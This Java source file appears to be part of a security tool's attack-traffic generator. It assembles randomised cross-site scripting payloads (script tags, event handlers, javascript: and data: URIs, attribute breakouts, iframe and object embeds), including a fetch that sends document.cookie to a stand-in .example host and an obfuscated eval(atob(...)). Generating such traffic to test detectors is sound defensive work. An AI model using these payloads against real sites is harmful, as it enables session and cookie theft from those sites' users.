package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.Pick;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Function;

/** Markup that makes the next reader's browser run something. */
final class Xss {

    static final List<AttackFamily> FAMILIES = List.of(
            family("xss_script", Xss::script),
            family("xss_handler", Xss::handler),
            family("xss_uri", Xss::uri),
            family("xss_attribute", Xss::attribute),
            family("xss_frame", Xss::frame).reservedForSimulation());

    private Xss() {}

    private static AttackFamily family(String name, Function<SplittableRandom, String> payload) {
        return AttackFamily.of(name, ThreatType.XSS, payload);
    }

    private static String script(SplittableRandom r) {
        return prefix(r)
                + Pick.one(
                        r,
                        "<script>" + code(r) + "</script>",
                        "<script src=//" + Pick.letters(r, 6) + ".example/x.js></script>",
                        "<script type=\"text/javascript\">" + code(r) + "</script>");
    }

    private static String handler(SplittableRandom r) {
        String event = Pick.one(r, "onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle");
        String tag =
                switch (event) {
                    case "onerror" -> "img src=x";
                    case "onload" -> Pick.one(r, "svg", "body");
                    case "ontoggle" -> "details open";
                    case "onfocus" -> "input autofocus";
                    default -> Pick.one(r, "a href=#", "div", "button");
                };
        return prefix(r) + "<" + tag + Pick.one(r, " ", "/") + event + "=" + code(r) + ">";
    }

    private static String uri(SplittableRandom r) {
        return Pick.one(
                r,
                "javascript:" + code(r),
                "<a href=\"javascript:" + code(r) + "\">" + Pick.letters(r, 5) + "</a>",
                "data:text/html,<script>" + code(r) + "</script>");
    }

    private static String attribute(SplittableRandom r) {
        String quote = Pick.one(r, "\"", "'");
        return Pick.letters(r, 3) + quote + " " + Pick.one(r, "onmouseover", "onfocus autofocus onfocus") + "=" + quote
                + code(r) + quote + " x=" + quote;
    }

    private static String frame(SplittableRandom r) {
        return prefix(r)
                + Pick.one(
                        r,
                        "<iframe srcdoc=\"<script>" + code(r) + "</script>\">",
                        "<object data=\"javascript:" + code(r) + "\">",
                        "<embed src=\"javascript:" + code(r) + "\">");
    }

    private static String prefix(SplittableRandom r) {
        return Pick.one(r, "", "", "\">", "'>", "</title>", "</textarea>");
    }

    private static String code(SplittableRandom r) {
        return Pick.one(
                r,
                "alert(" + Pick.number(r, 1, 99) + ")",
                "alert(document.cookie)",
                "confirm(document.domain)",
                "prompt`" + Pick.number(r, 1, 99) + "`",
                "fetch('//" + Pick.letters(r, 6) + ".example/?c='+document.cookie)",
                "eval(atob('YWxlcnQoMSk='))");
    }
}
